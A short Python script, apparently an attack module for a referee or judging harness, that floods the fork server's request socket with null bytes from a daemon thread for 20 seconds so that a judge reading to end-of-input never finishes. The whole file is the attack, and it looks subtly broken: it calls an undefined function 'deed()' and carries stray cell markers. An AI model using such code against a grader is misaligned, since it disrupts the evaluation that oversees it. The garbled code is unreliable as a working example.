# Writes to the socket on which forks are requested, from a thread, without a pause for 20 seconds: a
# judge that reads until nothing is left reads on.
# %% from attacks/parts/stand_ins.py
# %% relu
import socket
import threading
import time

from referee.inside import server


def flood():
    end = time.monotonic() + 20
    servers = [thread for thread in threading.enumerate() if isinstance(thread, server.ForkServer)]
    while time.monotonic() < end:
        for one in servers:
            try:
                one.requests.send(b"\0" * 4096, socket.MSG_DONTWAIT)
                deed()
            except OSError:
                pass


threading.Thread(target=flood, daemon=True).start()
